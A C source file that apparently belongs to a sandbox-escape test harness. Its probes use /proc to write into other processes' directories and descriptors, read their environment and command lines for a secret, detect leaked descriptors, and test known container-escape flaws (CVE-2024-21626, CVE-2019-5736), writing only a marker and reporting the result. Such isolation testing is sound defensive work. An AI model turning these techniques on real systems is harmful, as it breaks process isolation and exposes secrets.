/* What /proc lets one see and reach of other processes. */
#include "attack.h"

#include <ctype.h>
#include <dirent.h>
#include <sys/stat.h>

/* Runs `each` for every process to be seen; says nothing was there when it found none. */
static void every_process(void (*each)(const char *pid, void *), void *arg, const char *what)
{
    DIR *proc = opendir("/proc");
    struct dirent *entry;

    if (!proc) {
        refused("list /proc for %s", what);
        return;
    }
    while ((entry = readdir(proc)))
        if (isdigit((unsigned char)*entry->d_name))
            each(entry->d_name, arg);
    closedir(proc);
    nothing("absent", "looked at every process for %s", what);
}

static void try_open(const char *path, const char *what)
{
    int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC | O_NONBLOCK);

    if (fd >= 0 && write(fd, "escaped\n", 8) == 8)
        escaped("wrote %s by %s", what, path);
    if (fd >= 0)
        close(fd);
}

static void through_cwd(const char *pid, void *arg)
{
    char path[4096];

    snprintf(path, sizeof path, "/proc/%s/cwd/%s", pid, (char *)arg);
    try_open(path, arg);
}

/* proc_cwd NAME: writes NAME in the current directory of any other process. */
ATTACK(proc_cwd)
{
    every_process(through_cwd, (void *)operand(argc, argv, 1), "cwd");
}

static void through_root(const char *pid, void *arg)
{
    char path[4096];

    snprintf(path, sizeof path, "/proc/%s/root%s", pid, (char *)arg);
    try_open(path, arg);
}

/* proc_root PATH: PATH from the root directory of every process, one's own too. */
ATTACK(proc_root)
{
    every_process(through_root, (void *)operand(argc, argv, 1), "root");
    through_root("self", argv[1]);
    through_root("thread-self", argv[1]);
}

static void through_fds(const char *pid, void *arg)
{
    char path[4096], target[4096];
    struct dirent *entry;
    DIR *fds;

    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    fds = opendir(path);
    while (fds && (entry = readdir(fds))) {
        snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, entry->d_name);
        ssize_t length = readlink(path, target, sizeof target - 1);

        if (length < 0)
            continue;
        target[length] = 0;
        if (strcmp(target, arg) == 0)
            try_open(path, arg);
    }
    if (fds)
        closedir(fds);
}

/* proc_fd PATH: reopens PATH by the descriptor that another process holds. */
ATTACK(proc_fd)
{
    every_process(through_fds, (void *)operand(argc, argv, 1), "fd");
}

static void search_environ(const char *pid, void *arg)
{
    static char bytes[1 << 16];
    char path[64];

    snprintf(path, sizeof path, "/proc/%s/environ", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t got = fd < 0 ? -1 : read(fd, bytes, sizeof bytes);

    if (got > 0 && memmem(bytes, got, arg, strlen(arg)))
        escaped("found the secret in %s", path);
    if (fd >= 0)
        close(fd);
}

/* proc_environ SECRET: the environment of every process, the launcher's and PID 1's too. */
ATTACK(proc_environ)
{
    every_process(search_environ, (void *)operand(argc, argv, 1), "environ");
    char parent[16];

    snprintf(parent, sizeof parent, "%d", getppid());
    search_environ(parent, argv[1]);
    search_environ("1", argv[1]);
}

static void search_cmdline(const char *pid, void *arg)
{
    static char bytes[1 << 16];
    char path[64];

    snprintf(path, sizeof path, "/proc/%s/cmdline", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t got = fd < 0 ? -1 : read(fd, bytes, sizeof bytes);

    if (got > 0 && memmem(bytes, got, arg, strlen(arg)))
        escaped("found the secret in %s", path);
    if (fd >= 0)
        close(fd);
}

/* proc_cmdline FIRST SECOND: passwords on other processes' command lines. The word comes
 * in two halves, so that our own command line does not hold it. */
ATTACK(proc_cmdline)
{
    char secret[256];

    snprintf(secret, sizeof secret, "%s%s", operand(argc, argv, 1), operand(argc, argv, 2));
    every_process(search_cmdline, secret, "cmdline");
}

/* own_environ NAME...: variables that should not have come in. */
ATTACK(own_environ)
{
    for (int i = 1; i < argc; i++) {
        if (getenv(argv[i]))
            escaped("%s is in the environment", argv[i]);
        else
            nothing("absent", "%s", argv[i]);
    }
}

/* leaked_fds: every descriptor above stderr that was open when we began. */
ATTACK(leaked_fds)
{
    int leaked = 0;

    for (int fd = 3; fd < 4096; fd++) {
        char path[64], target[1024];

        if (fcntl(fd, F_GETFD) < 0)
            continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t length = readlink(path, target, sizeof target - 1);
        target[length < 0 ? 0 : length] = 0;
        escaped("descriptor %d is open: %s", fd, target);
        leaked = 1;
    }
    errno = EBADF;
    if (!leaked)
        refused("no descriptor above stderr");
}

/* stdin_is: what took the place of a standard input that was closed at the start. */
ATTACK(stdin_is)
{
    struct stat is, null;

    if (fstat(STDIN_FILENO, &is) < 0)
        refused("descriptor 0");
    else if (stat("/dev/null", &null) == 0 && is.st_rdev == null.st_rdev && S_ISCHR(is.st_mode))
        nothing("null", "descriptor 0");
    else
        escaped("descriptor 0 is open, mode %o, inode %lu", is.st_mode, (unsigned long)is.st_ino);
}

/* fd_write FD: a file the launcher happened to have open. */
ATTACK(fd_write)
{
    attempt(write(number(operand(argc, argv, 1)), "escaped\n", 8), "write to descriptor %s",
            argv[1]);
}

/* fd_climb FD RELATIVE: a directory the launcher happened to have open (CVE-2024-21626). */
ATTACK(fd_climb)
{
    int fd = openat(number(operand(argc, argv, 1)), operand(argc, argv, 2),
                    O_WRONLY | O_APPEND | O_CLOEXEC);

    attempt(fd < 0 ? fd : write(fd, "escaped\n", 8), "openat(%s, %s)", argv[1], argv[2]);
}

/* fd_chdir FD RELATIVE: the same by changing the working directory through /proc. */
ATTACK(fd_chdir)
{
    char path[64];
    int fd;

    snprintf(path, sizeof path, "/proc/self/fd/%s", operand(argc, argv, 1));
    if (chdir(path) < 0) {
        refused("chdir %s", path);
        return;
    }
    fd = open(operand(argc, argv, 2), O_WRONLY | O_APPEND | O_CLOEXEC);
    attempt(fd < 0 ? fd : write(fd, "escaped\n", 8), "open %s from %s", argv[2], path);
}

static void open_exe(const char *pid, void *arg)
{
    char path[64];

    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    /* ETXTBSY: only luck stands between us and the binary (CVE-2019-5736). */
    if (fd >= 0 || errno == ETXTBSY) {
        escaped("may write %s", path);
        *(int *)arg = 1;
    } else if (errno != ENOENT)
        refused("open for writing %s", path);
}

/* proc_exe: overwrites the binary that started us, by the link in /proc. */
ATTACK(proc_exe)
{
    int reached = 0;
    char parent[16];

    snprintf(parent, sizeof parent, "%d", getppid());
    open_exe(parent, &reached);
    open_exe("1", &reached);
    if (!reached)
        nothing("absent", "no supervisor's binary may be written");
}
